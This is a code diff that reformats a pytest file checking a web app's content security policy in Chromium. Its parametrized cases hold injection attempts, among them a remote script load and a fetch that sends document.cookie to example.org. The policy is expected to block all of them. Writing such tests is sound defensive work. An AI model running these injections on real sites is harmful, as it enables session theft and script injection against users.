@@ -1,10 +1,11 @@
-"""The content security policy in a real Chromium: every page works under it, and it stops what it is there to stop."""
+"""The content security policy in a real Chromium: every page works, and it stops attacks."""
 
 import pytest
 
 from tests.browser.conftest import PATIENCE, settle, until
 
-LISTENER = "document.addEventListener('securitypolicyviolation', event => window.violated(event.violatedDirective + ' ' + event.blockedURI))"
+LISTENER = """document.addEventListener('securitypolicyviolation', event =>
+    window.violated(event.violatedDirective + ' ' + event.blockedURI))"""
 
 
 @pytest.fixture(scope="module")
@@ -27,7 +28,7 @@ def window(chromium):
 
 
 def test_a_page_works_under_the_policy_that_is_sent_with_it(window, address):
-    """All pages are opened under it in test_pages.py, which hears of a violation as of any other complaint."""
+    """test_pages.py opens all pages under it, and fails on a violation as on any other message."""
     page, found = window
     found.clear()
     sent = page.goto(f"{address}/overview?dataset=exercise")
@@ -61,12 +62,24 @@ def test_using_a_page_breaks_no_policy_either(window, address):
 @pytest.mark.parametrize(
     "attempt",
     [
-        "document.head.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'}))",
-        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://example.org/x.js'}))",
+        (
+            "document.head.append(Object.assign("
+            "document.createElement('script'), {textContent: 'window.ran = 1'}))"
+        ),
+        (
+            "document.head.append(Object.assign("
+            "document.createElement('script'), {src: 'https://example.org/x.js'}))"
+        ),
         "setTimeout('window.ran = 1')",
         "fetch('https://example.org/?' + document.cookie).catch(() => 0)",
-        "document.body.append(Object.assign(document.createElement('img'), {src: 'https://example.org/x.png'}))",
-        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://example.org/'}))",
+        (
+            "document.body.append(Object.assign("
+            "document.createElement('img'), {src: 'https://example.org/x.png'}))"
+        ),
+        (
+            "document.body.append(Object.assign("
+            "document.createElement('iframe'), {src: 'https://example.org/'}))"
+        ),
     ],
     ids=[
         "inline script",
